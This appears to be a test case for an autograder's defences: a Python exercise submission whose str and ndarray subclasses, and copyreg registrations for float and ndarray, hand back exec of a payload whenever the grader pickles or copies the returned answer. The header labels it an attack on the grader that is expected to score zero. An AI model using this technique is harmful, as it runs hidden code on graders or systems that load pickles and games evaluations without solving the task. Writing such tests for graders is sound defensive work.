# attack: subclasses of plain kinds that call a function when a pickle or a copy of them is read
# gains: the grader
# expect: 0 points in check-0-1
# canary: output
# %% exercise-0-1
# include: payload
import copyreg


def boobytrap(*_):
    return exec, (PAYLOAD,)


class Text(str):
    __reduce__ = __reduce_ex__ = __copy__ = __deepcopy__ = boobytrap


class Array(np.ndarray):
    __reduce__ = __reduce_ex__ = __array_finalize__ = boobytrap


copyreg.pickle(float, boobytrap)
copyreg.pickle(np.ndarray, boobytrap)


def compression(height, width, code_size):
    return Text("24.5") if height == 28 else np.zeros(()).view(Array)
